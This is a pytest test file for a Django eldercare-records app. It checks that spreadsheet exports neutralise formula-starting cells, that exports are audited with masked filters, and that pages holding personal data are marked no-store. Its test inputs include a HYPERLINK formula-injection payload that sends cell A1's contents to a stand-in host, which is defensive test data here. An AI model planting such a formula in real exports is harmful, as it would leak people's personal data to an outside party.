"""Every export is audited and cannot carry a formula; personal data is never left in a cache."""
import csv
import io

import pytest
from django.urls import reverse

from carecircle.conftest import make_elder
from carecircle.core import exports
from carecircle.core.models import AuditEvent

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"点击")'


@pytest.mark.parametrize("value,expected", [
    (HYPERLINK, "'" + HYPERLINK), ("+86 1380", "'+86 1380"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("张三明", "张三明"), ("-12.50", "-12.50"), (-3, -3), ("", ""), (None, None),
])
def test_formula_starts_are_neutralised_and_numbers_left_alone(value, expected):
    assert exports.neutralise(value) == expected


def test_xlsx_rows_are_neutralised():
    from openpyxl import Workbook

    sheet = Workbook().active
    exports.append_xlsx_row(sheet, [HYPERLINK, 5])
    assert sheet["A1"].value == "'" + HYPERLINK and sheet["A1"].data_type == "s" and sheet["B1"].value == 5


def _csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_an_export_is_audited_with_filters_and_rows_and_a_formula_name_is_neutralised(district, users, client):
    make_elder(district.a1, name=HYPERLINK)
    client.force_login(users.street_staff)
    response = client.get(reverse("elders:export"), {"q": "", "household_type": "alone", "page": "3"})
    assert response.status_code == 200
    rows = _csv(response)
    names = [row[1] for row in rows[1:]]
    assert "'" + HYPERLINK in names and HYPERLINK not in names
    event = AuditEvent.objects.get(action="export")
    assert event.actor == users.street_staff
    assert event.subject_type == "elders.elder"
    assert event.changes["rows"] == len(rows) - 1 == 2  # street A's elders living alone
    assert event.changes["filters"] == {"household_type": "alone"} and event.changes["format"] == "csv"


def test_exact_numbers_in_export_filters_stay_masked_in_the_trail(district, users, client):
    client.force_login(users.street_staff)
    id_number = district.elders.a1.id_number
    client.get(reverse("elders:export"), {"q": id_number})
    event = AuditEvent.objects.get(action="export")
    assert id_number not in str(event.changes) and event.changes["rows"] == 1


def test_no_store_on_pages_api_downloads_and_exports(district, users, client, api_as):
    client.force_login(users.street_staff)
    for response in (client.get(reverse("elders:list")), client.get(reverse("elders:export")),
                     client.get(reverse("elders:detail", args=[district.elders.a1.pk])),
                     client.get(reverse("elders:import-template", args=["csv"]))):
        assert response.status_code == 200
        assert "no-store" in response["Cache-Control"]
    api = api_as(users.street_staff).get("/api/v1/elders/")
    assert api.status_code == 200 and "no-store" in api["Cache-Control"]


def test_anonymous_pages_without_personal_data_stay_cacheable(client, district):
    catalog = client.get(reverse("javascript-catalog"))
    assert catalog.status_code == 200 and "no-store" not in catalog.get("Cache-Control", "")
    board = client.get(reverse("intake:public-board", args=[district.street_a.code]))
    assert "no-store" in board["Cache-Control"]  # masked names while a notice runs


def _export_urls():
    from django.urls import URLPattern, URLResolver, get_resolver

    from carecircle.core.views import ScopedCsvExportView

    def walk(patterns, prefix=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                yield from walk(pattern.url_patterns, prefix + str(pattern.pattern))
            elif isinstance(pattern, URLPattern):
                view = getattr(pattern.callback, "view_class", None)
                if view and issubclass(view, ScopedCsvExportView) and not pattern.pattern.regex.groupindex:
                    yield "/" + prefix + str(pattern.pattern)

    return sorted(set(walk(get_resolver().url_patterns)))


def test_every_csv_export_page_is_audited(district, users, client):
    urls = _export_urls()
    assert len(urls) >= 10
    audited = 0
    for user in (users.district_admin, users.provider_admin, users.assessor):
        client.force_login(user)
        for url in urls:
            before = AuditEvent.objects.filter(action="export").count()
            response = client.get(url)
            if response.status_code != 200:
                assert response.status_code in (302, 403, 404)
                continue
            rows = _csv(response)
            event = AuditEvent.objects.filter(action="export").latest("id")
            assert AuditEvent.objects.filter(action="export").count() == before + 1, url
            assert event.actor == user and event.changes["rows"] == len(rows) - 1, url
            audited += 1
    assert audited >= len(urls)
